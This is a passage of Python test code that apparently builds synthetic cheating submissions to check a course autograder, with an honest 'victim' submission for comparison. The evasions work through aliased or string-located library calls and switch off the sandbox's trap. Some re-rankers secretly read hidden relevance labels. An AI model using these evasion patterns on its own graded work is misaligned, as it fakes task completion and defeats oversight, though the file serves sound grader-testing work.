        if c.cell_type != "code" or "grade_id" in c.get("metadata", {}).get("nbgrader", {})
    ]


def module2() -> dict[str, str]:
    """Module 2's delegation evasions (each solves topk_indices through the kit) and a victim."""
    students = {}
    for name, (prelude, function) in EVASIONS.items():
        code = textwrap.dedent(prelude) + "\n\n" + textwrap.dedent(function).strip("\n")
        students[name] = _c.submission(M2, {TOPK: code}, _light)
    solved = {g: right(g, M2) for g in _answers(M2, solved=True)}
    students["z_victim_right"] = _c.submission(M2, solved, _light)
    return students


# --- Module 6: the metrics, reimplemented or delegated to metrics.evaluate -----------------------

#: The metric exercises of Module 6: {answer cell: (visible test cell, hidden test cell)}.
M5_METRICS = {
    "06_prf": ("06_prf_tests", "06_prf_hidden"),
    "06_rr": ("06_rr_tests", "06_rr_hidden"),
    "06_ndcg": ("06_ndcg_tests", "06_ndcg_hidden"),
    "06_evaluate": ("06_evaluate_tests", "06_evaluate_hidden"),
}

#: Every metric exercise answered by the kit's evaluate (``{ev}``: how the answer reaches it).
M5_BY_KIT = {
    "06_prf": """
{prelude}
def _kit(ranked, grades, k, names{default}):
    run = {{"q": {{d: -float(i) for i, d in enumerate(ranked)}}}}
    return [float(v) for v in {ev}({{"q": grades}}, run, names).values()]


def precision_recall_f1(ranked, grades, k):
    return tuple(_kit(ranked, grades, k, [f"precision@{{k}}", f"recall@{{k}}", f"f1@{{k}}"]))
""",
    "06_rr": """
def reciprocal_rank(ranked, grades, k):
    return _kit(ranked, grades, k, [f"mrr@{k}"])[0] if ranked else 0.0
""",
    "06_ndcg": """
def ndcg_at_k(ranked, grades, k):
    return _kit(ranked, grades, k, [f"ndcg@{k}"])[0] if ranked else 0.0
""",
    "06_evaluate": """
def evaluate_run(qrels, run, k=10):
    names = [f"{m}@{k}" for m in ("precision", "recall", "f1", "mrr", "ndcg")]
    return {n: float(v) for n, v in _EV(qrels, run, names).items()}
""",
}

#: How a Module 6 delegator reaches metrics.evaluate: (prelude, default argument, callee).
M5_EVASIONS = {
    "m5_evaluate": ("_EV = evaluate", "", "evaluate"),
    "m5_default_arg": ("_EV = evaluate", ", _ev=evaluate", "_ev"),
    # the kit's private helpers, without naming evaluate at all
    "m5_helpers": (
        "from recsys_kit import metrics as _m\n\n\n"
        "def _EV(qrels, run, names):\n"
        "    flat = _m._flatten(qrels, run, None, 1)\n"
        "    kernels = {'precision': _m._precision, 'recall': _m._recall, 'f1': _m._f1,\n"
        "               'mrr': _m._mrr, 'ndcg': _m._ndcg}\n"
        "    parsed = [_m.parse_metric(n) for n in names]\n"
        "    return {n: float(kernels[b](flat, k).mean()) for n, (b, k) in zip(names, parsed)}\n",
        "",
        "_EV",
    ),
    # resolved from a string, with the sandbox's own trap switched off the same way
    "m5_pydoc_trap_off": (
        'import pydoc\n_EV = pydoc.locate("recsys_kit.metrics.evaluate")\n'
        + _trap_off('pydoc.locate("recsys_grader.testing")'),
        "",
        "_EV",
    ),
}


#: Module 6's re-ranker that reads the shop's relevance labels (``shop_truth``), hidden from
#: the grader's reading of the function: {student: answer cell}. Each behaves exactly like the
#: solution here (the labels' cells are not run in these light notebooks, so the bonus is 0):
#: only what the function reads differs from honest work.
RERANK = "06_rerank"
_LABELS = """
try:
    _labels = {q: dict(v) for q, v in shop_truth.items()}
except NameError:  # (not computed in this light notebook)
    _labels = {}
"""
_SOLUTION_RERANK = """
    median = products.groupby(C.COL_CATEGORY)[C.COL_PRICE].transform("median")
    rel_price = products[C.COL_PRICE] / median
    value = 0.5 / (1 + rel_price**2) + 0.5 * (products[C.COL_RATING] - 1) / 4
    prior = dict(zip(products[C.COL_PRODUCT_ID], value))
"""
M5_LABEL_READERS = {
    # a module variable set from the labels
    "m5_rerank_alias": _LABELS
    + "\n\ndef rerank_for_shoppers(run, products):\n"
    + _SOLUTION_RERANK
    + "    bonus = {q: {d: float(_labels.get(q, {}).get(d, 0)) for d in docs}"
    " for q, docs in run.items()}\n"
    "    return {q: {d: s + bonus[q][d] for d, s in docs.items()}\n"
    "            for q, docs in with_prior(run, prior, 0.2).items()}\n",
    # a container filled in place, read through a helper
    "m5_rerank_in_place": "_seen = {}\n"
    + _LABELS
    + "_seen.update(_labels)\n\n\ndef _bonus(q, d):\n    return float(_seen.get(q, {}).get(d, 0))\n"
    "\n\ndef rerank_for_shoppers(run, products):\n"
    + _SOLUTION_RERANK
    + "    return {q: {d: s + _bonus(q, d) for d, s in docs.items()}\n"
    "            for q, docs in with_prior(run, prior, 0.2).items()}\n",
    # the function made by a factory (no def of that name to read)
    "m5_rerank_factory": _LABELS
    + "\n\ndef _make(labels):\n    def rerank(run, products):\n"
    + textwrap.indent(_SOLUTION_RERANK, "    ")
    + "        return {q: {d: s + float(labels.get(q, {}).get(d, 0)) for d, s in docs.items()}\n"
    "                for q, docs in with_prior(run, prior, 0.2).items()}\n\n"
    "    return rerank\n\n\nrerank_for_shoppers = _make(_labels)\n",
}


def module5() -> dict[str, str]:
    """Module 6's metric exercises done by the kit, one way per student; re-rankers that read
    the labels; an honest victim."""
    students = {}
    for name, (prelude, default, callee) in M5_EVASIONS.items():
        answers = {}
        for grade_id, code in M5_BY_KIT.items():
            if grade_id == "06_prf":
                code = code.format(prelude=prelude, default=default, ev=callee)
            answers[grade_id] = textwrap.dedent(code).strip("\n")
        students[name] = _c.submission(M5, answers, _light)
    solved = {g: right(g, M5) for g in [*M5_METRICS, RERANK]}
    for name, code in M5_LABEL_READERS.items():
        students[name] = _c.submission(M5, {**solved, RERANK: code.strip("\n")}, _light)
    students["z_victim_right"] = _c.submission(M5, solved, _light)
    return students
